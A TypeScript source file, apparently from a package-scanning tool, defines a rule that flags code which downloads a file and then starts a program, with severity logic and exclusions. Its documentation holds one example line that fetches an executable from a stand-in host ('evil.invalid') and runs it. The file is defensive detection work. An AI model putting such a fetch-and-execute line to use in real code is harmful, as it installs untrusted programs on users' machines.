import { commandTraits } from '../facts/command-traits.js';
import { asksVersion, BUILD_TOOLS, movesFiles, startsFile } from '../facts/programs.js';
import { leadsToVendorsOnly } from '../facts/vendor-hosts.js';
import type { Sighting } from '../machine/sighting.js';
import { isUnasked } from '../values/reach.js';
import { WHEN } from './combination.js';
import type { PairCombination } from './pair-combination.js';

/** A program by its mere name, or in a folder of programs: nothing that was put somewhere a moment ago. */
const INSTALLED = /^\s*(?:[\w+-]+|\S*[\\/]bin[\\/][\w+-]+)\s/;

const fetches = ({ behaviour, host, labels, name, text }: Sighting): boolean =>
  (behaviour === 'writes-program' && labels.has('network')) ||
  (behaviour === 'contacts' && host !== undefined && /retrieve$|download$/.test(name)) ||
  (behaviour === 'starts-process' && host !== undefined && commandTraits(text ?? '').has('fetches'));

export const fetchedFileAndStart: PairCombination = {
  doc: {
    id: 'fetched-file-and-start',
    title: 'Fetches a file and starts a program',
    why: 'A file from the network is written to disk and something is started right after: what runs was never part of the package.',
    remedy: 'Do not install the package.',
    example: 'open("a.exe", "wb").write(urlopen("https://evil.invalid/a").read()); os.system("a.exe")',
    technique: 'T1105',
  },
  within: 'file',
  first: fetches,
  second: (sighting) =>
    sighting.behaviour === 'starts-process' &&
    !fetches(sighting) &&
    !sighting.labels.has('shipped') &&
    !BUILD_TOOLS.test(sighting.text ?? '') &&
    !(asksVersion(sighting.text ?? '') && INSTALLED.test(sighting.text ?? '')) &&
    !movesFiles(sighting.text ?? ''),
  severity: ({ reach, isChecked, text }, first) => {
    if (reach === 'install' && leadsToVendorsOnly(first.text ?? '')) return 'HIGH';
    if (reach === 'install' && isChecked === true && !startsFile(text ?? '')) return 'HIGH';
    return isUnasked(reach) ? 'CRITICAL' : undefined;
  },
  message: (first, { name, reach }) => `${first.name} fetches and ${name} starts ${WHEN[reach]}`,
};
